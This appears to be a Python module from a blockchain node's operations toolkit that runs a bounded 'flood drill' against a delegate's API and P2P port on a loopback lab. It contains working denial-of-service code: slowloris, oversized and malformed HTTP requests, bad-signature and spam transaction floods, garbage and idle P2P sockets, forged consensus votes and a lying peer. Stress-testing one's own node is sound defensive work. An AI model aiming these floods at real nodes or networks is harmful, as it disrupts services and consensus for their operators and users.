"""The flood drill's attacks (the edge of iotex_ops/flood/): raw sockets at one delegate's API and P2P port.

Every attack is bounded by the plan (plan.py): its count, the flood's duration, and a total of HTTP
requests; every socket is closed when the flood ends. Attackers bind to the plan's source addresses
(127.0.0.x on a loopback lab) so that the node sees them as clients other than the honest load's.
What the attackers were answered is tallied: the node's promises are judged from it (plan.judge).
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import itertools
import multiprocessing
import os
import random
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from typing import Any

import orjson

from iotex_node import sdk
from iotex_ops.flood.plan import FloodPlan

_LEN = struct.Struct(">I")


@dataclass
class Tally:
    """What the attackers saw."""

    statuses: Counter[int] = field(default_factory=Counter)
    retry_after_missing: int = 0
    hangs: int = 0
    requests: int = 0
    refused_connections: int = 0  # connect() failed or reset before an answer
    by_attack: dict[str, Counter[str]] = field(default_factory=dict)
    slow_held_s: float = 0.0  # the longest a slow client kept its connection
    p2p_held_s: float = 0.0  # the longest an idle P2P socket stayed open
    p2p_dropped: int = 0  # P2P connections the node closed on us
    # answers made by a proxy in front of the node (an X-Api-Proxy header: playbooks/roles/api_proxy), by status
    proxy_statuses: Counter[int] = field(default_factory=Counter)

    def note(self, attack: str, what: str, n: int = 1) -> None:
        self.by_attack.setdefault(attack, Counter())[what] += n

    def as_dict(self) -> dict[str, Any]:
        return {
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
            "retry_after_missing": self.retry_after_missing,
            "hangs": self.hangs,
            "requests": self.requests,
            "refused_connections": self.refused_connections,
            "slow_held_s": round(self.slow_held_s, 2),
            "p2p_held_s": round(self.p2p_held_s, 2),
            "p2p_dropped": self.p2p_dropped,
            "proxy_statuses": {str(k): v for k, v in sorted(self.proxy_statuses.items())},
            "by_attack": {k: dict(v) for k, v in sorted(self.by_attack.items())},
        }


@dataclass
class Target:
    """What the attacks need to know of the chain: its id and minimum fee, the genesis hash (P2P
    handshake), the delegates' addresses (forged votes), the tip, and funded keys for the spam."""

    chain_id: int
    min_fee: int
    genesis_hash: str
    delegates: Sequence[str]
    height: int
    spam_secrets: Sequence[str] = ()  # hex: what crosses to the flood's own process
    spam_nonces: dict[str, int] = field(default_factory=dict)  # address -> next nonce


class Flood:
    def __init__(self, plan: FloodPlan, target: Target) -> None:
        self.plan = plan.check()
        self.target = target
        self.tally = Tally()
        self._pools = _pools(plan.sources)
        self._deadline = 0.0
        self._next_slot = 0.0
        self._rng = random.Random(7)
        self._batch_req = b""
        self._bad_reqs: list[bytes] = []
        self._spam_bodies: list[bytes] = []
        self._empty_reqs: list[bytes] = []

    def prepare(self) -> None:
        """Sign everything the attacks send, before the flood starts: signing is CPU the flood's event loop
        would otherwise spend instead of sending (and its answers would look late)."""
        t = self.target
        if "batch" in self.plan.attacks:
            body = orjson.dumps({"actions": [self._bad_signature(1 + i) for i in range(2000)]})
            self._batch_req = self._req("POST", "/v1/actions/batch", body)
        if "bad_signatures" in self.plan.attacks:
            self._bad_reqs = [self._req("POST", "/v1/actions", orjson.dumps(self._bad_signature(1))) for _ in range(50)]
        keys = [sdk.PrivateKey.from_hex(x) for x in t.spam_secrets]
        if "spam_funded" in self.plan.attacks and keys and self.plan.spam > 0:
            per_key = max(1, self.plan.spam // len(keys))
            to = sdk.PrivateKey().address
            for k in keys:
                n0 = t.spam_nonces.get(k.address, 1)
                acts = [
                    sdk.transfer(k, chain_id=t.chain_id, nonce=n0 + i, fee=t.min_fee, to=to, amount=1).to_wire()
                    for i in range(per_key)
                ]
                for i in range(0, len(acts), 100):
                    self._spam_bodies.append(self._req("POST", "/v1/actions/batch", orjson.dumps({"actions": acts[i : i + 100]})))
        if "spam_empty" in self.plan.attacks:
            to = sdk.PrivateKey().address
            for i in range(self.plan.spam_empty):
                fee = 0 if i % 2 else t.min_fee
                a = sdk.transfer(sdk.PrivateKey(), chain_id=t.chain_id, nonce=1, fee=fee, to=to, amount=1).to_wire()
                self._empty_reqs.append(self._req("POST", "/v1/actions", orjson.dumps(a)))

    # --- plumbing ------------------------------------------------------------------------------------

    def _left(self) -> float:
        return self._deadline - time.monotonic()

    async def _budget(self) -> bool:
        """Room for one more HTTP request (the flood's count, time and rate bounds), waiting for its turn."""
        if self.tally.requests >= self.plan.max_requests or self._left() <= 0:
            return False
        self.tally.requests += 1
        now = time.monotonic()
        self._next_slot = max(self._next_slot, now) + 1 / self.plan.max_rps
        wait = self._next_slot - now
        if wait > 0:
            await asyncio.sleep(min(wait, max(0.0, self._left())))
        return self._left() > 0

    async def _open(self, host: str, port: int, attack: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        src = next(self._pools[_GROUP.get(attack, "other")])
        try:
            return await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(src, 0) if src else None),
                timeout=max(0.1, min(3.0, self._left())),
            )
        except (OSError, TimeoutError):
            self.tally.refused_connections += 1
            return None

    async def _answer(self, attack: str, reader: asyncio.StreamReader) -> bool:
        """Read one HTTP answer and tally it; False when the connection is no longer usable."""
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), self.plan.request_timeout_s)
        except TimeoutError:
            self.tally.hangs += 1
            self.tally.note(attack, "hang")
            return False
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, OSError):
            self.tally.note(attack, "closed")
            return False
        lines = head.decode("latin-1").split("\r\n")
        try:
            status = int(lines[0].split(" ", 2)[1])
        except (IndexError, ValueError):
            self.tally.note(attack, "garbled")
            return False
        headers = {k.strip().lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines[1:] if ln)}
        self.tally.statuses[status] += 1
        self.tally.note(attack, str(status))
        if status in (429, 503) and "retry-after" not in headers:
            self.tally.retry_after_missing += 1
        if "x-api-proxy" in headers:
            self.tally.proxy_statuses[status] += 1
        length = int(headers.get("content-length", "0") or 0)
        try:
            if length:
                await asyncio.wait_for(reader.readexactly(min(length, 1 << 20)), self.plan.request_timeout_s)
        except (TimeoutError, asyncio.IncompleteReadError, ConnectionError, OSError):
            return False
        return headers.get("connection", "").lower() != "close"

    async def _http(self, attack: str, request: bytes, *, rounds: int = 1) -> None:
        """Send `request` up to `rounds` times on one keep-alive connection, reading each answer."""
        conn = await self._open(self.plan.api_host, self.plan.api_port, attack)
        if conn is None:
            return
        reader, writer = conn
        try:
            for _ in range(rounds):
                if not await self._budget():
                    return
                try:
                    writer.write(request)
                    await writer.drain()
                except (ConnectionError, OSError):
                    self.tally.note(attack, "closed")
                    return
                if not await self._answer(attack, reader):
                    return
        finally:
            writer.close()

    def _req(self, method: str, path: str, body: bytes = b"", extra: str = "") -> bytes:
        head = f"{method} {path} HTTP/1.1\r\nHost: {self.plan.api_host}\r\n{extra}"
        if body or method == "POST":
            head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        return (head + "\r\n").encode() + body

    async def _repeat(self, worker: Callable[[], Awaitable[None]], n: int) -> None:
        """`n` concurrent copies of `worker`, each again and again until the deadline."""

        async def loop() -> None:
            while self._left() > 0 and self.tally.requests < self.plan.max_requests:
                await worker()
                await asyncio.sleep(0.01)

        await asyncio.gather(*(loop() for _ in range(n)))

    # --- the attacks ---------------------------------------------------------------------------------

    async def connections(self) -> None:
        req = self._req("GET", "/v1/chain")
        await self._repeat(lambda: self._http("connections", req, rounds=50), self.plan.connections)

    async def slowloris(self) -> None:
        async def one() -> None:
            conn = await self._open(self.plan.api_host, self.plan.api_port, "slowloris")
            if conn is None:
                await asyncio.sleep(0.2)
                return
            reader, writer = conn
            start = time.monotonic()
            data = self._req("GET", "/v1/chain", extra="X-Slow: " + "a" * 4000 + "\r\n")
            try:
                for b in data:
                    if self._left() <= 0 or reader.at_eof():
                        break
                    writer.write(bytes([b]))
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        got = await asyncio.wait_for(reader.read(4096), 0.5)
                        if not got or got.startswith(b"HTTP/"):
                            self.tally.note("slowloris", "closed_by_node")
                            break
            except (ConnectionError, OSError):
                self.tally.note("slowloris", "closed_by_node")
            finally:
                self.tally.slow_held_s = max(self.tally.slow_held_s, time.monotonic() - start)
                writer.close()

        async def loop() -> None:
            while self._left() > 1:
                await one()

        await asyncio.gather(*(loop() for _ in range(self.plan.slow_clients)))

    async def oversized(self) -> None:
        big = self._req("POST", "/v1/actions", b"{" + b" " * (3 * 1024 * 1024) + b"}")
        # a body declared and never sent: the node's body timeout answers it (408)
        never = self._req("POST", "/v1/actions").replace(b"Content-Length: 0", b"Content-Length: 100000") + b"{"
        await asyncio.gather(
            self._repeat(lambda: self._http("oversized", big), 4),
            self._repeat(lambda: self._http("oversized", never), 4),
        )

    async def malformed(self) -> None:
        samples = [
            b"GARBAGE\x00\x01\x02 / HTTP/1.1\r\n\r\n",
            b"GET /v1/chain HTTP/1.1\r\nHost: x\r\nBad\x00Header: 1\r\n\r\n",
            self._req("POST", "/v1/actions", b"{not json"),
            self._req("POST", "/v1/actions", b'{"chain_id": "x"}'),
            b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        ]
        await self._repeat(lambda: self._http("malformed", self._rng.choice(samples)), 8)

    def _bad_signature(self, nonce: int) -> dict[str, Any]:
        key = sdk.PrivateKey()
        to = sdk.PrivateKey().address
        wire = sdk.transfer(key, chain_id=self.target.chain_id, nonce=nonce, fee=self.target.min_fee, to=to, amount=1).to_wire()
        sig = bytearray(bytes.fromhex(wire["signature"]))
        sig[5] ^= 0xFF
        wire["signature"] = sig.hex()
        return wire

    async def batch(self) -> None:
        await self._repeat(lambda: self._http("batch", self._batch_req), 4)

    async def bad_signatures(self) -> None:
        await self._repeat(lambda: self._http("bad_signatures", self._rng.choice(self._bad_reqs), rounds=20), 8)

    async def spam_funded(self) -> None:
        """The batches spread evenly over the flood (a sustained flood, not one burst), two at a time."""
        queue = list(self._spam_bodies)
        if not queue:
            return
        gap = self.plan.duration_s * 0.8 / len(queue)
        start = time.monotonic()
        sent = 0

        async def worker() -> None:
            nonlocal sent
            while queue and self._left() > 0:
                body = queue.pop(0)
                due = start + sent * gap
                sent += 1
                await asyncio.sleep(max(0.0, due - time.monotonic()))
                await self._http("spam_funded", body)

        await asyncio.gather(worker(), worker())

    async def spam_empty(self) -> None:
        reqs = self._empty_reqs

        async def worker(part: list[bytes]) -> None:
            for r in part:
                if self._left() <= 0:
                    return
                await self._http("spam_empty", r)

        await asyncio.gather(*(worker(reqs[i::8]) for i in range(8)))

    # --- P2P -------------------------------------------------------------------------------------------

    async def _p2p_hold(self, attack: str, send: bytes) -> None:
        conn = await self._open(self.plan.p2p_host, self.plan.p2p_port, attack)
        if conn is None:
            await asyncio.sleep(0.2)
            return
        reader, writer = conn
        start = time.monotonic()
        try:
            if send:
                writer.write(send)
                await writer.drain()
            while self._left() > 0:
                with contextlib.suppress(TimeoutError):
                    if not await asyncio.wait_for(reader.read(65536), min(1.0, max(0.05, self._left()))):
                        self.tally.p2p_dropped += 1
                        self.tally.note(attack, "dropped")
                        break
        except (ConnectionError, OSError):
            self.tally.p2p_dropped += 1
            self.tally.note(attack, "dropped")
        finally:
            self.tally.p2p_held_s = (
                max(self.tally.p2p_held_s, time.monotonic() - start) if attack == "p2p_idle" else self.tally.p2p_held_s
            )
            writer.close()

    async def p2p_garbage(self) -> None:
        samples = [os.urandom(64), _LEN.pack(2**31) + b"x" * 16, _LEN.pack(20) + b"not json at all.....", _frame({"t": "vote"})]

        async def loop() -> None:
            while self._left() > 0:
                await self._p2p_hold("p2p_garbage", self._rng.choice(samples))

        await asyncio.gather(*(loop() for _ in range(max(1, self.plan.p2p_sockets // 10))))

    async def p2p_idle(self) -> None:
        async def loop() -> None:
            while self._left() > 0:
                await self._p2p_hold("p2p_idle", b"")

        await asyncio.gather(*(loop() for _ in range(self.plan.p2p_sockets)))

    async def _peer(self, attack: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        """An authenticated P2P connection under a fresh node key (any key may handshake: the chain is public)."""
        conn = await self._open(self.plan.p2p_host, self.plan.p2p_port, attack)
        if conn is None:
            return None
        reader, writer = conn
        key = sdk.PrivateKey()
        nonce = os.urandom(32)
        hello = {"t": "hello", "chain_id": self.target.chain_id, "genesis": self.target.genesis_hash, "node": key.address,
                 "nonce": nonce.hex(), "listen": "127.0.0.1:1", "version": "flood"}  # fmt: skip
        try:
            writer.write(_frame(hello))
            theirs = orjson.loads(await asyncio.wait_for(_read_frame(reader), 5))
            digest = hashlib.sha256(
                b"iotex-p2p" + bytes.fromhex(theirs["nonce"]) + key.address.encode() + theirs["node"].encode()
            )
            writer.write(_frame({"t": "auth", "sig": key.sign(digest.digest()).hex()}))
            await asyncio.wait_for(_read_frame(reader), 5)  # their auth
            await writer.drain()
        except (OSError, TimeoutError, asyncio.IncompleteReadError, ValueError, KeyError, TypeError):
            self.tally.note(attack, "handshake_failed")
            writer.close()
            return None
        self.tally.note(attack, "connected")
        return reader, writer

    async def _until_dropped(self, attack: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while self._left() > 0:
                with contextlib.suppress(TimeoutError):
                    if not await asyncio.wait_for(reader.read(65536), min(1.0, max(0.05, self._left()))):
                        self.tally.p2p_dropped += 1
                        self.tally.note(attack, "dropped")
                        return
        except (ConnectionError, OSError):
            self.tally.p2p_dropped += 1
            self.tally.note(attack, "dropped")
        finally:
            writer.close()

    async def forged_consensus(self) -> None:
        async def one() -> None:
            conn = await self._peer("forged_consensus")
            if conn is None:
                await asyncio.sleep(0.5)
                return
            reader, writer = conn
            # any height past the tip: the node checks a vote's signature before it keeps or drops it by height
            voter = self._rng.choice(list(self.target.delegates)) if self.target.delegates else sdk.PrivateKey().address
            h = self.target.height + 10**6
            vote = {"t": "vote", "type": "prevote", "height": h, "round": 0, "block": os.urandom(32).hex(),
                    "voter": voter, "signature": os.urandom(65).hex()}  # fmt: skip
            with contextlib.suppress(OSError):
                writer.write(_frame(vote))
            await self._until_dropped("forged_consensus", reader, writer)

        async def loop() -> None:
            while self._left() > 0:
                await one()

        await asyncio.gather(*(loop() for _ in range(2)))

    async def lying_peer(self) -> None:
        async def one() -> None:
            conn = await self._peer("lying_peer")
            if conn is None:
                await asyncio.sleep(0.5)
                return
            reader, writer = conn
            with contextlib.suppress(OSError):
                writer.write(_frame({"t": "status", "height": self.target.height + 10**9, "hash": os.urandom(32).hex()}))
            await self._until_dropped("lying_peer", reader, writer)  # and then silent: an idle peer

        await asyncio.gather(*(one() for _ in range(2)))

    # --- running -------------------------------------------------------------------------------------

    async def run(self) -> Tally:
        if not (self._batch_req or self._bad_reqs or self._spam_bodies or self._empty_reqs):
            self.prepare()
        self._deadline = time.monotonic() + self.plan.duration_s
        tasks = [asyncio.ensure_future(getattr(self, name)()) for name in self.plan.attacks]
        try:
            await asyncio.wait_for(asyncio.gather(*tasks, return_exceptions=True), self.plan.duration_s + 15)
        except TimeoutError:
            pass
        finally:
            for t in tasks:
                t.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
        return self.tally


def run(plan: FloodPlan, target: Target) -> Tally:
    """Sign what it sends, then run the flood to its end (its duration, plus at most 15 s to close its sockets)."""
    flood = Flood(plan, target)
    flood.prepare()
    return asyncio.run(flood.run())


def run_niced(plan: FloodPlan, target: Target, niceness: int = 15) -> Tally:
    """`run` in a process of its own at a lower CPU priority: on a lab where attacker and nodes share the
    cores, the attacker's own CPU (a real one has machines of its own) must not count as the node's weakness."""
    ctx = multiprocessing.get_context("spawn")
    with ProcessPoolExecutor(max_workers=1, mp_context=ctx, initializer=os.nice, initargs=(niceness,)) as pool:
        return pool.submit(run, plan, target).result(timeout=plan.duration_s + 120)


# Which of the plan's source addresses each attack connects from (on a loopback lab): the connection
# floods from two clients (so that each passes its per-client limits), the slow clients from one, the P2P
# sockets from two, the authenticated bad peers from one of their own, the rest from the last two.
_GROUP = {
    "connections": "connections",
    "slowloris": "slow",
    "p2p_idle": "p2p",
    "p2p_garbage": "p2p",
    "forged_consensus": "peers",
    "lying_peer": "peers",
}
_SLICES = {"connections": (0, 2), "slow": (2, 3), "p2p": (3, 5), "peers": (5, 6), "other": (6, 8)}


def _pools(sources: Sequence[str]) -> dict[str, Iterator[str | None]]:
    out: dict[str, Iterator[str | None]] = {}
    for group, (a, b) in _SLICES.items():
        chosen: Sequence[str | None] = list(sources[a:b]) or list(sources[-1:]) or [None]
        out[group] = itertools.cycle(chosen)
    return out


def _frame(msg: dict[str, Any]) -> bytes:
    data = orjson.dumps(msg)
    return _LEN.pack(len(data)) + data


async def _read_frame(reader: asyncio.StreamReader) -> bytes:
    (n,) = _LEN.unpack(await reader.readexactly(4))
    if not 0 < n <= 65536:
        raise ValueError("frame size")
    return await reader.readexactly(n)
